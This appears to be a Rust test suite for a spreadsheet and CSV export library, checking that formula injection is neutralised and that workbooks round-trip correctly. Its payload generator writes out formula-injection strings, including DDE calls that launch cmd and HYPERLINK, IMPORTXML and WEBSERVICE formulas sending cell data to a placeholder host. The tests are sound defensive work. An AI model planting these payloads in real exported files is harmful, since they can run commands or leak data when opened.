//! What we write can be read back, and nothing in it acts.

use std::{
    fmt::Write as _,
    io::{Cursor, Read},
};

use chrono::NaiveDate;
use model::text::{Lang, Text};
use papers::{
    Cell, Row,
    annotate::{Annotated, Problem},
    write::{Column, Csv, Kind, Out, Sheet, Unwritten, guarded},
};

use crate::corpus::{read, rows, text};

/// All XML of a workbook, one part after the other.
fn inside(bytes: &[u8]) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut all = String::new();
    for index in 0..zip.len() {
        let mut part = zip.by_index(index).unwrap();
        writeln!(all, "== {}", part.name().unwrap()).unwrap();
        part.read_to_string(&mut all).unwrap();
    }
    all
}

/// Five thousand texts that some spreadsheet, somewhere, would act upon.
fn payloads() -> Vec<String> {
    let starts = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\u{3000}=",
        "\u{FEFF}=",
        "\u{A0}@",
        "\"=",
        "';=",
    ];
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://example.test/?\"&A1,\"看这里\")",
        "IMPORTXML(\"http://example.test\",\"//a\")",
        "WEBSERVICE(\"http://example.test\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "SUM(A1:A9)",
        "2-3",
        "村",
    ];
    let ends = ["", "\n", ",=1+1", ";=1+1", "\t=1+1", "\"", "\",\"=1+1", "\r\n=1+1"];
    let mut all = Vec::new();
    for round in 0.. {
        for start in starts {
            for body in bodies {
                for end in ends {
                    all.push(format!(
                        "{start}{body}{end}{}",
                        if round == 0 { String::new() } else { round.to_string() }
                    ));
                    if all.len() == 5_000 {
                        return all;
                    }
                }
            }
        }
    }
    all
}

#[test]
fn no_payload_becomes_a_formula_in_a_workbook() {
    let payloads = payloads();
    let mut sheet =
        Sheet::new("=1+1", &[Column::new("=HEAD()", Kind::Text).noted("=NOTE()")]).unwrap();
    for payload in &payloads {
        sheet.row(&[Out::text(payload)]).unwrap();
    }
    let bytes = sheet.finish().unwrap();
    let xml = inside(&bytes);
    assert!(!xml.contains("<f>") && !xml.contains("<f "), "a formula was written");
    assert!(!xml.contains("externalLink") && !xml.contains("hyperlink "), "a link was written");
    let found = rows(bytes);
    assert_eq!(found.len(), payloads.len() + 1);
    for (row, payload) in found[1..].iter().zip(&payloads) {
        let seen = payload.replace("\r\n", "\n").replace('\r', "\n").replace('\u{FEFF}', "");
        assert_eq!(row.cells, [text(&seen)], "{payload:?}");
    }
}

#[test]
fn every_payload_is_guarded_in_a_csv_file() {
    let payloads = payloads();
    let mut csv = Csv::new(Vec::new(), &["＝标题"]).unwrap();
    for payload in &payloads {
        csv.row(&[Out::text(payload), Out::text("乙")]).unwrap();
    }
    let bytes = csv.finish().unwrap();
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(&bytes[3..]);
    let records: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(&records[0][0], "'＝标题");
    assert_eq!(records.len(), payloads.len() + 1);
    for (record, payload) in records[1..].iter().zip(&payloads) {
        assert_eq!(record.len(), 2, "{payload:?} stays one field");
        let acts = |c: char| "=+-@\t\r＝＋－＠".contains(c);
        let seen = record[0].trim_start_matches(|c: char| c.is_whitespace() || c == '\u{FEFF}');
        assert!(!seen.starts_with(acts), "{:?}", &record[0]);
        assert_eq!(
            record[0]
                .strip_prefix('\'')
                .filter(|_| !payload.starts_with('\''))
                .unwrap_or(&record[0]),
            payload
        );
    }
}

#[test]
fn only_what_acts_is_guarded() {
    for harmless in ["", "张三", "1-2", "a=b", "'=1", "（+86）"] {
        assert_eq!(guarded(harmless), harmless);
    }
    for acting in ["=", "-", "+86", "＝１", "\t", " @x"] {
        assert_eq!(guarded(acting), format!("'{acting}"));
    }
}

#[test]
fn a_csv_file_opens_as_utf8_and_keeps_our_own_numbers() {
    let day = NaiveDate::from_ymd_opt(2019, 6, 14).unwrap();
    let mut csv = Csv::new(Vec::new(), &["数", "元", "日"]).unwrap();
    csv.row(&[Out::Whole(-5), Out::Fen(-1_205), Out::Day(day)]).unwrap();
    csv.row(&[
        Out::Decimal(0.5),
        Out::Decimal(f64::NAN),
        Out::Moment(day.and_hms_opt(8, 30, 0).unwrap()),
    ])
    .unwrap();
    let content = String::from_utf8(csv.finish().unwrap()).unwrap();
    assert_eq!(
        content,
        "\u{FEFF}\"数\",\"元\",\"日\"\r\n\"-5\",\"-12.05\",\"2019-06-14\"\r\n\"0.5\",\"\",\"2019-06-14 08:30\"\r\n"
    );
}

#[test]
fn a_sheet_gives_back_what_was_put_in() {
    let columns = [
        Column::new("身份证号", Kind::Text),
        Column::new("人数", Kind::Whole),
        Column::new("金额（元）", Kind::Money),
        Column::new("日期", Kind::Day),
        Column::new("时间", Kind::Moment).wide(20.0),
        Column::new("比例", Kind::Decimal),
    ];
    let day = NaiveDate::from_ymd_opt(2019, 6, 14).unwrap();
    let early = NaiveDate::from_ymd_opt(1899, 1, 1).unwrap();
    let mut sheet = Sheet::new("花名册/2019", &columns).unwrap();
    let moment = Out::Moment(day.and_hms_opt(8, 30, 0).unwrap());
    sheet
        .row(&[
            Out::text("410423199001010000"),
            Out::Whole(3),
            Out::Fen(1_205),
            Out::Day(day),
            moment,
            Out::Decimal(0.25),
        ])
        .unwrap();
    sheet
        .row(&[Out::text("_x0041_<&>"), Out::Whole(i64::MAX), Out::Empty, Out::Day(early)])
        .unwrap();
    let bytes = sheet.finish().unwrap();
    let found = rows(bytes.clone());
    let expected = [
        text("410423199001010000"),
        Cell::Number(3.0),
        Cell::Number(12.05),
        Cell::Date("2019-06-14".into()),
        Cell::Date("2019-06-14T08:30:00".into()),
        Cell::Number(0.25),
    ];
    assert_eq!(found[1].cells, expected);
    assert_eq!(
        found[2].cells,
        [text("_x0041_<&>"), text("9223372036854775807"), Cell::Empty, text("1899-01-01")]
    );
    let xml = inside(&bytes);
    for part in [
        "orientation=\"landscape\"",
        "paperSize=\"9\"",
        "<autoFilter ref=\"A1:F3\"",
        "state=\"frozen\"",
        "_xlnm.Print_Titles",
        "花名册2019",
    ] {
        assert!(xml.contains(part), "{part}");
    }
}

#[test]
fn the_same_rows_give_the_same_bytes() {
    let make = || {
        let mut sheet = Sheet::new("表", &[Column::new("甲", Kind::Text)]).unwrap();
        sheet.row(&[Out::text("乙")]).unwrap();
        sheet.finish().unwrap()
    };
    assert_eq!(make(), make());
}

#[test]
fn text_longer_than_a_cell_is_cut_visibly() {
    let mut sheet = Sheet::new("表", &[Column::new("甲", Kind::Text)]).unwrap();
    sheet.row(&[Out::text("长".repeat(40_000))]).unwrap();
    assert!(matches!(rows(sheet.finish().unwrap())[1].cells[0], Cell::Overlong(16_383)));
}

fn problem(column: Option<u32>, zh: &'static str) -> Problem {
    Problem { column, text: Text::fixed(zh, "something is wrong") }
}

#[test]
fn problems_come_back_beside_their_rows() {
    let row = |number, cells: Vec<Cell>| Row { number, cells, beyond: None };
    let mut copy = Annotated::new("花名册", 3, Lang::Zh).unwrap();
    copy.row(&row(1, vec![text("某镇花名册")]), &[]).unwrap();
    copy.heading(&row(3, vec![text("姓名"), text("身份证号"), text("日期")])).unwrap();
    copy.row(&row(4, vec![text("张三"), text("=1"), Cell::Date("2019-06-14".into())]), &[])
        .unwrap();
    let wrong = [
        problem(Some(1), "身份证号存成了数字。"),
        problem(None, "与第 4 行重复。"),
        problem(Some(2), "缺日期。"),
    ];
    copy.row(&row(9, vec![text("李四"), Cell::Number(410423199001010000.0)]), &wrong).unwrap();
    let bytes = copy.finish().unwrap();
    let found = rows(bytes.clone());
    assert_eq!(found.iter().map(|row| row.number).collect::<Vec<_>>(), [1, 3, 4, 9]);
    assert_eq!(found[1].cells[3], text("错误"));
    assert_eq!(found[2].cells, [text("张三"), text("=1"), Cell::Date("2019-06-14".into())]);
    assert_eq!(found[3].cells[3], text("身份证号存成了数字。\n与第 4 行重复。\n缺日期。"));
    assert!(found[3].cells[1].lost_digits());
    let xml = inside(&bytes);
    for part in
        ["<comment ref=\"B9\"", "<comment ref=\"C9\"", "<autoFilter ref=\"A3:D9\"", "FFFFC7CE"]
    {
        assert!(xml.contains(part), "{part}");
    }
    assert!(!xml.contains("<f>"));
}

#[test]
fn a_corrected_copy_can_be_uploaded_again() {
    let cells = vec![
        text("张三"),
        Cell::Formula(Box::new(text("上坪村"))),
        Cell::Bool(true),
        Cell::Error("#REF!".into()),
    ];
    let mut copy = Annotated::new("花名册", 4, Lang::En).unwrap();
    copy.row(&Row { number: 1, cells, beyond: None }, &[problem(None, "行不对。")]).unwrap();
    let found = rows(copy.finish().unwrap());
    assert_eq!(
        found[0].cells,
        [text("张三"), text("上坪村"), text("TRUE"), text("#REF!"), text("something is wrong")]
    );
}

#[test]
fn rows_out_of_order_are_told() {
    let mut copy = Annotated::new("表", 1, Lang::Zh).unwrap();
    let row = |number| Row { number, ..Row::default() };
    copy.row(&row(5), &[]).unwrap();
    assert!(matches!(copy.row(&row(5), &[]), Err(Unwritten::Order { row: 5 })));
    assert!(matches!(Annotated::new("表", 16_384, Lang::Zh), Err(Unwritten::Full)));
}

#[test]
fn an_empty_sheet_is_a_form_to_fill_in() {
    let sheet = Sheet::new("模板", &[Column::new("姓名", Kind::Text)]).unwrap();
    assert_eq!(read(sheet.finish().unwrap()).unwrap().len(), 2);
}
